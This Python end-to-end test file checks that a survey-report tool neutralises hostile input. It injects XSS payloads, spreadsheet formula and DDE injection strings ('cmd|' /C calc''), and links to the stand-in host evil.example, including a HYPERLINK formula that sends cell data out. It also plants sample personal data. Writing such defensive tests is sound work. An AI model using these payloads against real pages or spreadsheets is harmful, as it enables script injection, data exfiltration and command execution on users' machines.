"""A hostile wave, end to end through ``nps-wave run``: script and markup, formulas and
personal data in the comments, in the CRM's labels and in params. Every HTML file the
wave writes is opened in a real browser (Debian's chromium): no script runs, nothing is
asked from outside the file, and no e-mail, phone, IBAN, card number, IP address or
listed contact's name is visible. Every CSV cell is checked for formulas, every XLSX
cell for being text, and the lists for account teams for card numbers, IBANs and third
parties' contact details."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from conftest import CHROMIUM, CHROMIUM_ARGS, make_project, nps_wave

pytestmark = [pytest.mark.e2e, pytest.mark.browser]
WAVE = "2026-H2"

#: What must never be seen by leadership, as injected into comments.
SECRETS = {
    "e-mail": ["jane.doe@client.example", "jane dot doe at client dot example"],
    "phone": ["+44 20 7946 0958", "(212) 555-0199"],
    "iban": ["DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432"],
    "card": ["4111 1111 1111 1111", "5500-0000-0000-0004"],
    "ip": ["192.168.10.24", "2001:db8::ff00:42:8329"],
    "unlisted name": ["Dr Hannelore Brightwater", "Dear Mr Quentin Falsworth"],
}
#: Markup that would run if any page printed it raw.
SCRIPTS = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 2">',
    '<svg onload="window.__pwned = 3">',
    '<a href="javascript:window.__pwned = 4">see ticket</a>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
#: Must stay: the account team needs them to act.
KEPT = "ticket #48213"


def _comments(listed: list[str]) -> list[str]:
    """Comments that each carry a theme (so they are quoted) and something hostile."""
    out = []
    for i, name in enumerate(listed):
        kind = i % 7
        if kind == 0:
            out.append(f"Support is slow and useless {SCRIPTS[i // 7 % len(SCRIPTS)]}")
        elif kind == 1:
            out.append(f"{FORMULAS[i // 7 % len(FORMULAS)]} support never answers, {KEPT}")
        elif kind == 2:
            out.append(
                f"Billing is wrong again, refund to IBAN {SECRETS['iban'][i % 2]} and write "
                f"to {SECRETS['e-mail'][i % 2]}"
            )
        elif kind == 3:
            out.append(
                f"The product is great but card {SECRETS['card'][i % 2]} was charged twice, "
                f"call {SECRETS['phone'][i % 2]}"
            )
        elif kind == 4:
            out.append(
                f"Reports are slow to load; our server {SECRETS['ip'][i % 2]} times out every "
                "Monday"
            )
        elif kind == 5:
            out.append(
                f"{SECRETS['unlisted name'][i % 2]} says onboarding was slow and the training "
                "too generic"
            )
        else:
            out.append(f"{name} says the support team is fantastic and fast")
    return out


def _inject(root: Path) -> dict:
    raw = root / "data" / "raw" / WAVE
    invited = pd.read_csv(raw / "invitations.csv", dtype=str)
    listed = (invited["first_name"] + " " + invited["last_name"]).tolist()
    export = raw / "survey_export.csv"
    rows = list(csv.reader(io.StringIO(export.read_bytes().decode("utf-8-sig"))))
    head, body = rows[:3], rows[3:]
    comment = head[0].index("Q2")
    for row, text in zip(body, _comments(listed * (len(body) // len(listed) + 1)), strict=False):
        row[comment] = text
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(head + body)
    export.write_bytes(out.getvalue().encode("utf-8-sig"))
    accounts = pd.read_csv(raw / "accounts.csv", dtype=str, keep_default_na=False)
    accounts.loc[accounts["tier"] == "key", "tier"] = '<b onmouseover="window.__pwned=5">Key</b>'
    accounts.loc[accounts["industry"] == "Logistics", "industry"] = (
        '<a href="https://evil.example">Logistics</a>'
    )
    accounts.loc[0, "account_name"] = "<script>window.__pwned = 6</script> Granite"
    owner = accounts.loc[1, "owner"]
    accounts.loc[accounts["owner"] == owner, "owner"] = "=cmd|' /C calc'!A0 <img src=x>"
    accounts.to_csv(raw / "accounts.csv", index=False)
    params = root / "params" / f"{WAVE}.yaml"
    text = params.read_text(encoding="utf-8")
    text = text.replace(
        "company: Northwind Systems",
        'company: "Northwind <script>window.__pwned = 7</script> & Co"',
    )
    text = text.replace(
        f"wave_label: Relationship NPS {WAVE}",
        f"wave_label: \"Relationship NPS {WAVE} <img src=x onerror='window.__pwned=8'>\"",
    )
    text = text.replace(
        "tier_map: {}",
        "tier_map:\n  '<b onmouseover=\"window.__pwned=5\">Key</b>': key\n",
    ).replace('  # CRM tier label -> one of tiers, e.g. "Key Account": key', "")
    text = text.replace("previous_wave: 2026-H1", "previous_wave: null")
    params.write_text(text, encoding="utf-8")
    return {"listed": listed}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    root = make_project(tmp_path_factory.mktemp("hostile_wave"))
    injected = _inject(root)
    proc = nps_wave("run", f"params/{WAVE}.yaml", cwd=root, timeout=900)
    assert proc.returncode == 0, proc.stderr
    return {"root": root, "reports": root / "reports" / WAVE, **injected}


def _visible(page) -> str:
    """What a reader can see on any slide or hover: every text (hidden slides too, not
    scripts or styles), and every attribute a browser shows."""
    return page.evaluate(
        """() => {
            const parts = [document.title];
            const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
            for (let n = walker.nextNode(); n; n = walker.nextNode()) {
                const tag = n.parentElement ? n.parentElement.tagName : '';
                if (tag !== 'SCRIPT' && tag !== 'STYLE') parts.push(n.textContent);
            }
            for (const el of document.querySelectorAll('*')) {
                for (const a of ['title', 'alt', 'aria-label', 'placeholder', 'href', 'src']) {
                    const v = el.getAttribute(a);
                    if (v) parts.push(v);
                }
            }
            for (const t of document.querySelectorAll('svg text')) parts.push(t.textContent);
            return parts.join('\\n');
        }"""
    )


def test_every_html_file_runs_nothing_fetches_nothing_and_shows_no_personal_data(hostile):
    from playwright.sync_api import sync_playwright

    pages = sorted(hostile["reports"].rglob("*.html"))
    names = {p.relative_to(hostile["reports"]).as_posix() for p in pages}
    assert {"deck.html", "data-quality/index.html", "followup/thank_you.html"} <= names
    listed = [n for n in hostile["listed"] if len(n) > 5]
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            for path in pages:
                page = browser.new_page(viewport={"width": 1280, "height": 800})
                requests, dialogs = [], []
                page.on("request", lambda r, seen=requests: seen.append(r.url))
                page.on("dialog", lambda d, seen=dialogs: (seen.append(d.message), d.dismiss()))
                page.goto(path.as_uri(), wait_until="load")
                page.wait_for_timeout(300)
                if page.locator(".plotly-graph-div").count():
                    page.wait_for_function(
                        "document.querySelectorAll('.plotly-graph-div .main-svg').length >= "
                        f"{page.locator('.plotly-graph-div').count()}",
                        timeout=15_000,
                    )
                where = path.relative_to(hostile["reports"]).as_posix()
                assert page.evaluate("window.__pwned === undefined"), f"{where}: a script ran"
                assert not dialogs, f"{where}: {dialogs}"
                outside = [u for u in requests if not u.startswith(("file:", "data:", "blob:"))]
                assert not outside, f"{where} asked for {outside}"
                assert page.locator("a[href^='javascript:'], a[href^='http']").count() == 0, where
                seen = _visible(page)
                for kind, values in SECRETS.items():
                    for value in values:
                        assert value not in seen, f"{where} shows a {kind}: {value}"
                shown = [n for n in listed if n in seen]
                assert not shown, f"{where} shows listed contacts: {shown[:5]}"
                assert "Northwind" in seen or where.startswith("data-quality"), where
                page.close()
        finally:
            browser.close()


def test_the_deck_shows_hostile_labels_as_text(hostile):
    html = (hostile["reports"] / "deck.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned = 7&lt;/script&gt;" in html, "the company, as text"
    assert '<a href="https://evil.example">' not in html
    tokens = set(re.findall(r"\[(email|phone|iban|card|ip|name|address)\]", html))
    assert len(tokens) >= 3, f"the quotes carried the injected data, scrubbed: {tokens}"


def test_every_csv_cell_is_inert(hostile):
    """No cell of any CSV the wave wrote starts like a formula; the formulas of the
    comments are there, as text (a leading ')."""
    files = sorted(hostile["reports"].rglob("*.csv"))
    assert files
    quoted = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as f:
            for line, row in enumerate(csv.reader(f), 1):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
                        f"{path.name} line {line}: {cell[:40]!r}"
                    )
                    quoted += cell.startswith(("'=", "'+", "'-", "'@"))
    assert quoted > 0, "the formulas were written, neutralised"


def test_every_xlsx_cell_is_text_not_a_formula(hostile):
    import openpyxl

    books = sorted((hostile["reports"] / "followup" / "owners").glob("*.xlsx"))
    assert any("cmd" in p.name for p in books), "the hostile owner has a workbook"
    for path in books:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}/{sheet.title}!{cell.coordinate}"


def test_lists_for_account_teams_keep_tickets_but_no_cards_ibans_or_third_parties(hostile):
    folder = hostile["reports"] / "followup"
    text = "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.csv")))
    assert KEPT in text, "a ticket number stays"
    for kind in ("card", "iban", "e-mail", "phone"):
        for value in SECRETS[kind]:
            assert value not in text, f"a {kind} reached the account teams' lists: {value}"


def test_the_data_quality_page_shows_no_comment(hostile):
    page = (hostile["reports"] / "data-quality" / "index.html").read_text(encoding="utf-8")
    assert "support never answers" not in page and "Billing is wrong again" not in page
    assert re.search(r"Content-Security-Policy", page)


def test_the_projects_salt_is_in_no_output(hostile):
    import json

    salt = json.loads((hostile["root"] / ".nps-salt").read_text())["salt"]
    outputs = [hostile["reports"], hostile["root"] / "data" / "processed"]
    for path in (p for folder in outputs for p in folder.rglob("*") if p.is_file()):
        assert salt.encode() not in path.read_bytes(), path
